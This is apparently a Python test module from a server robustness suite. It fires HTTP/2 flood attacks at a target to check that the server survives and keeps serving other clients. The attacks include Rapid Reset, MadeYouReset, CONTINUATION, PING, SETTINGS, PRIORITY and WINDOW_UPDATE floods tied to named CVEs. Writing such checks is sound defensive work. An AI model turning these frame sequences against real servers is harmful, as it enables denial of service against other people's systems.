# Sidetone
# SPDX-License-Identifier: Apache-2.0
"""Peers that flood: the server survives, bounds its memory and keeps serving others."""

import struct
import time

import http2
from attack import Bystander, attack, request_block
from http2 import (CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
                   WINDOW_UPDATE, frame, literal, settings_payload)
from registry import check
from rpc import message


@check("flood.settings")
def settings_flood(target):
    """SETTINGS frames without end (CVE-2019-9515)."""
    one = frame(SETTINGS, payload=settings_payload({http2.MAX_CONCURRENT_STREAMS: 100}))
    return attack(target, target.connect(), one * 50_000, 50_000, len(one))


@check("flood.ping")
def ping_flood(target):
    """PING frames without end (CVE-2019-9512)."""
    one = frame(PING, 0, 0, b"12345678")
    return attack(target, target.connect(), one * 50_000, 50_000, len(one))


@check("flood.ping-unread")
def ping_unread(target):
    """PING frames whose answers nobody reads: the server stops reading too, or ends the connection."""
    one = frame(PING, 0, 0, b"12345678")
    connection = target.connect(receive_buffer=4096)
    return attack(target, connection, one * 1_500_000, 1_500_000, len(one), read=False)


@check("flood.settings-unread")
def settings_unread(target):
    """SETTINGS frames whose acknowledgements nobody reads."""
    one = frame(SETTINGS)
    connection = target.connect(receive_buffer=4096)
    return attack(target, connection, one * 2_500_000, 2_500_000, len(one), read=False)


@check("flood.rapid-reset")
def rapid_reset(target):
    """Requests cancelled at once, over and over (CVE-2023-44487)."""
    connection = target.connect()
    block, count = request_block(target), 20_000
    octets, first = bytearray(), connection.next_stream
    for stream in range(first, first + 2 * count, 2):
        octets += frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08")
    connection.careless = True
    return attack(target, connection, octets, count, len(octets) // count)


@check("flood.made-you-reset")
def made_you_reset(target):
    """Requests that force the server to reset them, over and over (CVE-2025-8671)."""
    connection = target.connect()
    block, count = request_block(target), 10_000
    octets, first = bytearray(), connection.next_stream
    for stream in range(first, first + 2 * count, 2):
        octets += frame(HEADERS, END_HEADERS, stream, block) + frame(WINDOW_UPDATE, 0, stream, b"\x00" * 4)
    connection.careless = True
    return attack(target, connection, octets, count, len(octets) // count)


@check("flood.headers")
def headers_flood(target):
    """Ten thousand calls opened and left open: refused above the limit, or bounded."""
    connection = target.connect()
    block, count = request_block(target), 10_000
    octets, first = bytearray(), connection.next_stream
    for stream in range(first, first + 2 * count, 2):
        octets += frame(HEADERS, END_HEADERS, stream, block)
    connection.careless = True
    return attack(target, connection, octets, count, len(octets) // count)


@check("flood.continuation")
def continuation_flood(target):
    """A header block that never ends (CVE-2024-27316): ended, or discarded without being kept."""
    connection = target.connect()
    stream = connection.new_stream().identifier
    piece = literal("x-flood", "v" * 4000)
    one = frame(CONTINUATION, 0, stream, piece)
    octets = frame(HEADERS, 0, stream, request_block(target)) + one * 10_000
    return attack(target, connection, octets, 10_000, len(one), ping=False)


@check("flood.empty-continuation")
def empty_continuation_flood(target):
    """Empty CONTINUATION frames without end: ended, or survived."""
    connection = target.connect()
    stream = connection.new_stream().identifier
    one = frame(CONTINUATION, 0, stream)
    octets = frame(HEADERS, 0, stream, request_block(target)) + one * 200_000
    return attack(target, connection, octets, 200_000, len(one), ping=False)


@check("flood.empty-data")
def empty_data_flood(target):
    """Empty DATA frames without end (CVE-2019-9518)."""
    connection = target.connect()
    call = target.bidi(connection)
    one = frame(DATA, 0, call.stream.identifier)
    return attack(target, connection, one * 200_000, 200_000, len(one))


@check("flood.empty-messages")
def empty_messages(target):
    """Messages of no octets as fast as the window allows."""
    connection = target.connect()
    call = target.bidi(connection)
    with Bystander(target) as bystander:
        octets = message(b"") * 3000
        end = time.monotonic() + min(3, target.config["seconds"]["attack"])
        sent = 0
        while time.monotonic() < end and not call.stream.done and not connection.ended():
            if not connection.send_data(call.stream, octets, timeout=1):
                break
            sent += 3000
    return f"{sent} messages, {call}; {bystander}"


@check("flood.window-update")
def window_update_flood(target):
    """WINDOW_UPDATE of one octet without end."""
    connection = target.connect()
    call = target.bidi(connection)
    one = frame(WINDOW_UPDATE, 0, call.stream.identifier, b"\x00\x00\x00\x01")
    return attack(target, connection, one * 100_000, 100_000, len(one))


@check("flood.priority")
def priority_flood(target):
    """PRIORITY frames for streams that do not exist (CVE-2019-9513)."""
    octets = b"".join(frame(PRIORITY, 0, 1 + 2 * (i % 5000), struct.pack(">IB", 3 + 2 * (i % 4000), i % 256))
                      for i in range(50_000))
    return attack(target, target.connect(), octets, 50_000, 14)


@check("flood.unknown-frames")
def unknown_flood(target):
    """Large frames of an unknown type: ignored without being kept."""
    one = frame(0xEE, 0, 0, b"x" * 16_384)
    return attack(target, target.connect(), one * 2000, 2000, len(one))
